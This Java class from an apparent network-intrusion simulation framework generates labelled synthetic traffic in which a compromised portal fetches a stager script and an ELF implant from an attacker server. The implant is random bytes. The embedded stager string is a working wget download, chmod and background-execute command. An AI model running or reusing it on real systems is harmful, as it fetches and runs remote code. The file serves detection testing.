package dev.vigil.scenario.campaign;

import dev.vigil.scenario.http.Bodies;
import dev.vigil.scenario.http.HttpMessage;
import dev.vigil.scenario.key.Activity;
import dev.vigil.scenario.key.Detector;
import dev.vigil.scenario.key.Party;
import dev.vigil.scenario.wire.TcpConversation;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.Map;

/**
 * After the exploit, the compromised portal runs the injected command: wget fetches a stager script from
 * the intruder's server by bare address, and the stager fetches an ELF implant — tools brought in over
 * plain HTTP, each request leaving the DMZ for an address no name points to.
 */
final class ToolTransfer implements Step {
    @Override
    public String id() {
        return "tool-transfer";
    }

    @Override
    public Activity schedule(Intrusion in, long at, long until) {
        String server = in.exploitServer.ip() + ":8080";
        in.timeline.add(at, id(), w -> {
            Map<String, String> wget = new LinkedHashMap<>();
            wget.put("User-Agent", "Wget/1.21.3");
            wget.put("Accept", "*/*");
            TcpConversation d = w.tcp(in.foothold.ephemeral(), in.exploitServer.port(8080)).rate(10e6).open();
            byte[] script = ("#!/bin/sh\ncd /tmp; wget -q http://" + server + "/bins/kworkerd -O .k; chmod +x .k; ./.k &\n")
                    .getBytes(StandardCharsets.US_ASCII);
            d.exchange(HttpMessage.request("GET", "/sh", server, wget, new byte[0]),
                    HttpMessage.response(200, "OK", HttpMessage.date(w.now()), "SimpleHTTP/0.6 Python/3.10.12", "text/plain", Map.of(), script),
                    1_000_000L);
            d.close();
            w.thinkMillis(200, 900);
            TcpConversation e = w.tcp(in.foothold.ephemeral(), in.exploitServer.port(8080)).rate(10e6).open();
            byte[] elf = Bodies.binary(1_400_000 + w.rng().nextInt(400_000), w.rng());
            elf[0] = 0x7F;
            elf[1] = 'E';
            elf[2] = 'L';
            elf[3] = 'F';
            e.exchange(HttpMessage.request("GET", "/bins/kworkerd", server, wget, new byte[0]),
                    HttpMessage.response(200, "OK", HttpMessage.date(w.now()), "SimpleHTTP/0.6 Python/3.10.12", "application/octet-stream", Map.of(), elf),
                    1_000_000L);
            e.close();
        });
        return new Activity(id(), "The compromised portal fetches a stager script and an ELF implant from the intruder's server",
                Techniques.INGRESS_TOOL_TRANSFER, Party.of(in.foothold.ip()), Party.of(in.exploitServer.ip(), 8080), null, null, Detector.SIGNATURE,
                "The portal (a server that browses nowhere) sends Wget requests to " + server + " by bare address; the answers are a shell script and an ELF file.");
    }
}
